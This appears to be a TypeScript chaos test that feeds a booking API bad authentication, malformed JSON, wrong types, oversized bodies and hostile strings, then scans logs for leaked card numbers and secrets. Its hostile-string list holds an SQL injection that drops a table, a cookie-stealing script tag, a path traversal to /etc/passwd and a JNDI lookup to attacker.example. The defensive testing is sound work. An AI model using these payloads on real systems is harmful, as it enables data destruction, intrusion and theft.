/**
 * Scenario: bad input at the API's edge — missing or wrong token, malformed JSON, wrong content
 * type, wrong types, huge bodies, unknown and duplicate booking ids, hostile strings in every field
 * of a create (SQL, script tags, unicode, control characters, very long, card and bank numbers,
 * emails). Every rejection is a 4xx with the error shape and leaves nothing behind (no workflow, no
 * PaymentIntent); free-text fields may accept a hostile string, which then reads back unchanged.
 * Ends by scanning the API's captured log lines for card-like numbers, the bank account numbers
 * and emails given in input, and the system's secrets.
 */
import { randomInt, randomUUID } from 'node:crypto';
import { newBooking, SYSTEM_SECRETS, type SystemUnderTest } from '../harness/system-under-test.js';
import { findSensitiveData } from '../harness/sensitive-data.js';
import { cancelBookings, tally } from './booking-driver.js';
import { checkInvariants } from './invariants.js';
import { timedScenario, type ChaosScale, type ScenarioReport } from './scenario-report.js';

const CARD_NUMBER = '4242424242424242';
const BANK_ACCOUNT_NUMBER = '000123456789';
const HOSTILE_EMAIL = 'victim.chaos@example.org';

/** Strings an attacker or a broken client sends. */
export const HOSTILE_STRINGS: Record<string, string> = {
  sql: "x' OR '1'='1'; DROP TABLE stripe_events; --",
  script: '<script>alert(document.cookie)</script>',
  unicode: '𝕳𝖔𝖘𝖙𝖎𝖑𝖊 ☃ \u202eRTL\u202c 名前 ﷽',
  control: 'a\u0000b\u0001c\u001b[31md\r\ne',
  long: 'x'.repeat(10_000),
  path: '../../../etc/passwd',
  template: '${jndi:ldap://attacker.example/a}{{7*7}}',
  card: CARD_NUMBER,
  email: HOSTILE_EMAIL,
  empty: '',
};

/**
 * Create-body fields attacked, by path; free-text ones may accept a short hostile string, and a
 * field may accept the hostile values that are valid for it. A digits-only booking id is a valid id,
 * so a card number sent as one is accepted; the logs must show it masked.
 */
const FIELDS: Array<{ path: string[]; freeTextMax?: number; valid?: string[]; skip?: string[] }> = [
  { path: ['bookingId'], valid: ['card'] },
  { path: ['customer', 'id'], freeTextMax: 100 },
  { path: ['customer', 'email'], valid: ['email'] },
  { path: ['customer', 'name'], freeTextMax: 200 },
  { path: ['holdPaymentMethod'] },
  { path: ['startsAt'] },
  { path: ['endsAt'] },
];

interface Attempt {
  kind: string;
  method: string;
  path: string;
  body?: string;
  headers?: Record<string, string>;
  /** The booking that must not exist afterwards (when the request is rejected). */
  bookingId?: string;
  /** Accepting is a correct answer too (a free-text field, a repeated identical create). */
  mayAccept?: boolean;
}

/** A Visa-shaped 16-digit number that passes the Luhn check, as a real card number does. */
function randomCardNumber(): string {
  const digits = [4, ...Array.from({ length: 14 }, () => randomInt(10))];
  // Luhn: from the right of the number without its check digit, every other digit doubled (its digits summed).
  const sum = digits.reduce((total, digit, index) => {
    const weighted = (digits.length - 1 - index) % 2 === 0 ? digit * 2 : digit;
    return total + (weighted > 9 ? weighted - 9 : weighted);
  }, 0);
  return `${digits.join('')}${(10 - (sum % 10)) % 10}`;
}

/** Runs the scenario; `apiLogLines` are the API's captured log lines, scanned at the end. */
export async function runBadApiInput(
  system: SystemUnderTest,
  scale: ChaosScale,
  { apiLogLines }: { apiLogLines: string[] },
): Promise<ScenarioReport> {
  return timedScenario('bad API input and log scan', async (report) => {
    const token = `Bearer ${system.apiToken}`;
    const json = { 'content-type': 'application/json' };
    const fresh = () =>
      newBooking({
        bookingId: `chaos-bad-${randomUUID()}`,
        customer: { id: 'cust-chaos', email: HOSTILE_EMAIL, name: 'Chaos Guest' },
      });
    const attempts: Attempt[] = [];
    const create = (kind: string, body: unknown, extra: Partial<Attempt> = {}) => {
      const bookingId = (body as { bookingId?: unknown })?.bookingId;
      attempts.push({
        kind,
        method: 'POST',
        path: '/v1/bookings',
        body: typeof body === 'string' ? body : JSON.stringify(body),
        headers: { ...json, authorization: token },
        bookingId: typeof bookingId === 'string' ? bookingId : undefined,
        ...extra,
      });
    };

    // Authentication.
    for (const [kind, authorization] of Object.entries({
      'no token': undefined,
      'wrong token': 'Bearer wrong-token',
      'empty bearer': 'Bearer ',
      'basic scheme': 'Basic dXNlcjpwYXNz',
    })) {
      const booking = fresh();
      attempts.push({
        kind: `auth: ${kind}`,
        method: 'POST',
        path: '/v1/bookings',
        body: JSON.stringify(booking),
        headers: { ...json, ...(authorization !== undefined && { authorization }) },
        bookingId: booking.bookingId,
      });
      attempts.push({
        kind: `auth: ${kind} (read)`,
        method: 'GET',
        path: `/v1/bookings/${booking.bookingId}`,
        headers: { ...(authorization !== undefined && { authorization }) },
      });
    }
    // Malformed JSON and content types.
    for (const [kind, body] of Object.entries({
      truncated: '{"bookingId": "chaos-trunc',
      'not json': 'bookingId=1&x=2',
      empty: '',
      array: '[]',
      null: 'null',
      number: '42',
      'BOM-prefixed garbage': '\uFEFF{,}',
    })) {
      create(`malformed JSON: ${kind}`, body);
    }
    const textBooking = fresh();
    attempts.push({
      kind: 'content-type text/plain',
      method: 'POST',
      path: '/v1/bookings',
      body: JSON.stringify(textBooking),
      headers: { 'content-type': 'text/plain', authorization: token },
      bookingId: textBooking.bookingId,
    });
    // Wrong types and shapes.
    const wrong: Record<string, (booking: ReturnType<typeof fresh>) => unknown> = {
      'bookingId a number': (booking) => ({ ...booking, bookingId: 123 }),
      'customer a string': (booking) => ({ ...booking, customer: 'x' }),
      'startsAt a number': (booking) => ({ ...booking, startsAt: 1_700_000_000 }),
      'endsAt before startsAt': (booking) => ({ ...booking, endsAt: booking.startsAt, startsAt: booking.endsAt }),
      'holdPaymentMethod an array': (booking) => ({ ...booking, holdPaymentMethod: ['pm_card_visa'] }),
      'unknown field': (booking) => ({ ...booking, admin: true }),
      'missing customer': ({ customer: _customer, ...rest }) => rest,
      'payment with a bank account and no mandate': (booking) => ({
        ...booking,
        payment: {
          amount: 5_000,
          method: 'us_bank_account',
          bankAccount: {
            accountNumber: BANK_ACCOUNT_NUMBER,
            routingNumber: '110000000',
            accountHolderName: 'Chaos Guest',
          },
        },
      }),
      'amount negative': (booking) => ({
        ...booking,
        payment: { amount: -1, method: 'us_bank_account', paymentMethod: 'pm_usBankAccount_success' },
      }),
    };
    for (const [kind, mutate] of Object.entries(wrong)) {
      const booking = fresh();
      create(`wrong type: ${kind}`, mutate(booking), { bookingId: booking.bookingId });
    }
    // Huge bodies.
    const hugeName = fresh();
    create(
      'huge body (2 MB name)',
      { ...hugeName, customer: { ...hugeName.customer, name: 'x'.repeat(2_000_000) } },
      { bookingId: hugeName.bookingId },
    );
    const deep = fresh();
    create('huge body (deeply nested)', `${'['.repeat(50_000)}${']'.repeat(50_000)}`, { bookingId: deep.bookingId });
    // Unknown booking ids.
    const unknown = `chaos-unknown-${randomUUID()}`;
    for (const [method, suffix, body] of [
      ['GET', '', undefined],
      ['POST', '/cancel', '{}'],
      ['POST', '/payment-method', '{"paymentMethod":"pm_card_visa"}'],
      ['POST', '/microdeposits', '{"descriptorCode":"SM11AA"}'],
    ] as const) {
      attempts.push({
        kind: `unknown booking: ${method} ${suffix || '/'}`,
        method,
        path: `/v1/bookings/${unknown}${suffix}`,
        body,
        headers: { ...json, authorization: token },
        bookingId: unknown,
      });
    }
    // Hostile strings in every field of a create, and in the path.
    for (const field of FIELDS) {
      for (const [name, value] of Object.entries(HOSTILE_STRINGS)) {
        if (field.skip?.includes(name)) continue;
        const booking = fresh() as Record<string, unknown>;
        const target = field.path.length === 1 ? booking : (booking[field.path[0]] as Record<string, unknown>);
        // A card number as the booking id is a new one each run, so the id is new whatever ran before.
        target[field.path[field.path.length - 1]] =
          name === 'card' && field.path[0] === 'bookingId' ? randomCardNumber() : value;
        const mayAccept =
          (field.freeTextMax !== undefined && value.length >= 1 && value.length <= field.freeTextMax) ||
          (field.valid?.includes(name) ?? false);
        const isIdAttacked = field.path[0] === 'bookingId';
        create(`hostile ${name} in ${field.path.join('.')}`, booking, {
          bookingId: isIdAttacked && !mayAccept ? undefined : (booking.bookingId as string),
          mayAccept,
        });
      }
    }
    for (const [name, value] of Object.entries(HOSTILE_STRINGS)) {
      if (name === 'long' || name === 'empty' || name === 'card') continue;
      attempts.push({
        kind: `hostile ${name} in the path`,
        method: 'GET',
        path: `/v1/bookings/${encodeURIComponent(value)}`,
        headers: { authorization: token },
      });
    }

    // Duplicate booking ids: the same body at once several times, then a different body.
    const duplicate = fresh();
    const duplicateAnswers = await Promise.all(
      Array.from({ length: scale.copies }, () => system.api('POST', '/v1/bookings', duplicate)),
    );
    const conflicting = await system.api('POST', '/v1/bookings', {
      ...duplicate,
      customer: { ...duplicate.customer, name: 'Someone Else' },
    });
    report.tried['identical creates at once'] = scale.copies;
    report.counted['identical creates answered 201'] = duplicateAnswers.filter(
      (answer) => answer.status === 201,
    ).length;
    report.counted['identical creates answered 200'] = duplicateAnswers.filter(
      (answer) => answer.status === 200,
    ).length;
    if (
      report.counted['identical creates answered 201'] !== 1 ||
      report.counted['identical creates answered 200'] !== scale.copies - 1
    )
      report.failures.push(`identical creates answered ${duplicateAnswers.map((answer) => answer.status).join(',')}`);
    if (conflicting.status !== 409 || conflicting.body.error?.code !== 'booking_conflict')
      report.failures.push(`a different body for the same id answered ${conflicting.status}`);

    const outcomes: string[] = [];
    const accepted: string[] = [duplicate.bookingId];
    let rejectedLeftNothing = 0;
    for (const attempt of attempts) {
      let response: Response;
      try {
        response = await fetch(`${system.apiUrl}${attempt.path}`, {
          method: attempt.method,
          headers: attempt.headers,
          body: attempt.body,
        });
      } catch (error) {
        // A server may answer 413 and close before reading a huge body; the client then sees a reset.
        outcomes.push('connection closed');
        if (!attempt.kind.startsWith('huge body')) report.failures.push(`${attempt.kind}: ${String(error)}`);
        else if (attempt.bookingId && (await leftSomething(system, attempt.bookingId)))
          report.failures.push(`${attempt.kind}: left a booking or hold behind`);
        else rejectedLeftNothing += 1;
        continue;
      }
      const text = await response.text();
      let body: {
        error?: { code?: string; message?: string; requestId?: string };
        bookingId?: string;
        customerId?: string;
      } = {};
      try {
        body = JSON.parse(text);
      } catch {
        // Not JSON: reported below as a missing error shape.
      }
      outcomes.push(String(response.status));
      if (response.status < 300 && attempt.mayAccept) {
        accepted.push(attempt.bookingId!);
        const sent = JSON.parse(attempt.body!) as { customer: { id: string } };
        if (body.customerId !== sent.customer.id)
          report.failures.push(`${attempt.kind}: the customer id did not read back unchanged`);
        continue;
      }
      if (response.status < 400 || response.status >= 500) {
        report.failures.push(`${attempt.kind}: answered ${response.status}`);
        continue;
      }
      if (!body.error?.code || !body.error.message || !body.error.requestId)
        report.failures.push(`${attempt.kind}: no error shape in ${text.slice(0, 120)}`);
      if (body.error?.message && /at .*\.(ts|js):\d+|stack|SELECT|INSERT/i.test(body.error.message))
        report.failures.push(`${attempt.kind}: the message leaks internals`);
      if (attempt.bookingId && (await leftSomething(system, attempt.bookingId)))
        report.failures.push(`${attempt.kind}: left a booking or hold behind`);
      else rejectedLeftNothing += 1;
    }
    report.tried = {
      requests: attempts.length,
      ...report.tried,
      'hostile strings': Object.keys(HOSTILE_STRINGS).length,
      'fields attacked': FIELDS.length + 1,
    };
    report.counted = {
      ...tally(outcomes.map((status) => (status === 'connection closed' ? status : `answered ${status}`))),
      ...report.counted,
      'rejected and left nothing': rejectedLeftNothing,
    };
    const tables = await system.db.query<{ count: string }>(
      "SELECT count(*) FROM information_schema.tables WHERE table_name = 'stripe_events'",
    );
    if (tables.rows[0].count !== '1') report.failures.push('the stripe_events table is gone');

    const findings = findSensitiveData(apiLogLines, [BANK_ACCOUNT_NUMBER, ...SYSTEM_SECRETS]);
    report.counted['API log lines scanned'] = apiLogLines.length;
    report.counted['sensitive findings in logs'] = findings.length;
    for (const finding of findings.slice(0, 5)) report.failures.push(`log leak: ${finding.slice(0, 200)}`);

    report.counted['accepted bookings cancelled and released'] = await cancelBookings(system, accepted);
    return checkInvariants(system, accepted);
  });
}

/** Whether a rejected request left a workflow or a PaymentIntent behind for `bookingId`. */
async function leftSomething(system: SystemUnderTest, bookingId: string): Promise<boolean> {
  const { data } = await system.emulatorControl<{ data: unknown[] }>(
    'GET',
    `/_emulator/payment_intents?booking_id=${encodeURIComponent(bookingId)}`,
  );
  if (data.length > 0) return true;
  const view = await system.api('GET', `/v1/bookings/${encodeURIComponent(bookingId)}`);
  return view.status !== 404;
}
